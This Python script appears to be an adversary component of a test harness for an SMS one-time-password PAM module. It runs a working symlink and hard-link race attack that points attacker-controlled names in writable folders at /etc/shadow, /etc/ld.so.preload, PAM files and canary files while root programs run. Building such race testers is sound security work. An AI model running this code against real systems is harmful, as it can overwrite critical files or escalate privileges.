"""racer: somebody who puts symbolic links, hard links and FIFOs wherever an ordinary user can write, and swaps them as fast as he can.

Owns: the names that a careless program of root's might write to, and where they would lead it.
MUST: end when its parent does.
Never: finds out whether it worked: whoever compares the files before and after does.
"""

import ctypes
import os
import random
import sys

VICTIMS = ["/etc/canary", "/root/canary", "/etc/shadow", "/etc/sms-otp/sms-otp.conf", "/var/lib/sms-otp/state/site", "/var/lib/sms-otp/outbox/messages",
           "/etc/pam.d/su", "/run/sms-otp/socket", "/etc/ld.so.preload"]
NAMES = """sms-otp sms-otp.log sms-otpd sms-otpd.log sms-otp-send sms-otp.conf sms-otp.lock sms-otp.pid pam_sms_otp pam_sms_otp.log .sms-otp socket
    messages outbox state site key core core.%d .netrc .curlrc .sms-otp.conf openssl.cnf ssl_keys.log krb5cc_%d evil.so keys su sudo tmp cookies
    .xauth .lastlog last sms-otp.%d tmp.%d sess_%d""".split()
PR_SET_PDEATHSIG, RENAME_EXCHANGE, AT_FDCWD = 1, 2, -100
LIBC = ctypes.CDLL(None, use_errno=True)


def put(rng, path):
    kind = rng.choice(("symbolic", "symbolic", "hard", "fifo", "folder"))
    if kind == "symbolic":
        os.symlink(rng.choice(VICTIMS), path)
    elif kind == "hard":
        os.link(rng.choice(VICTIMS), path, follow_symlinks=False)
    elif kind == "fifo":
        os.mkfifo(path, 0o666)
    else:
        os.mkdir(path, 0o777)


def take(path):
    try:
        os.unlink(path)
    except IsADirectoryError:
        os.rmdir(path)
    except OSError:
        pass


def race(seed, folders):
    rng = random.Random(seed)
    while True:
        name = rng.choice(NAMES)
        name = name % rng.randint(1, 4000) if "%" in name else name
        path = os.path.join(rng.choice(folders), name)
        other = path + ".other"
        try:
            put(rng, other)
            if LIBC.renameat2(AT_FDCWD, other.encode(), AT_FDCWD, path.encode(), RENAME_EXCHANGE) != 0:
                os.rename(other, path)
        except OSError:
            pass
        take(other)
        if rng.random() < 0.3:
            take(path)
        LIBC.usleep(rng.randint(0, 4000))


if __name__ == "__main__":
    LIBC.prctl(PR_SET_PDEATHSIG, 9, 0, 0, 0)
    race(sys.argv[1], sys.argv[2:])
